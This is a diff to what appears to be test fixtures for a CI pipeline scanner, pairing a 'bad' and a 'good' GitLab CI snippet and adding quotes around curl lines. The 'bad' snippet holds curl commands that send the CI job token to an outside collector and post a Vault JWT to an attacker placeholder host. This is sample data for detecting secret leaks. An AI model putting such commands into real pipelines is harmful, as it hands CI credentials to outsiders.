@@ -125,12 +125,12 @@ test:
     VAULT_ID:
       aud: https://vault.example.com
   script:
-    - curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collector.example.net/hook ⟵
+    - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collector.example.net/hook' ⟵
     - curl -d "jwt=$VAULT_ID" https://attacker.example.org/ ⟵
 `,
       good: `notify:
   script:
-    - curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages"
+    - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages"'
     - git clone https://gitlab-ci-token:$CI_JOB_TOKEN@gitlab.example.com/acme/lib.git
     - curl https://collector.example.net/hook
 `,
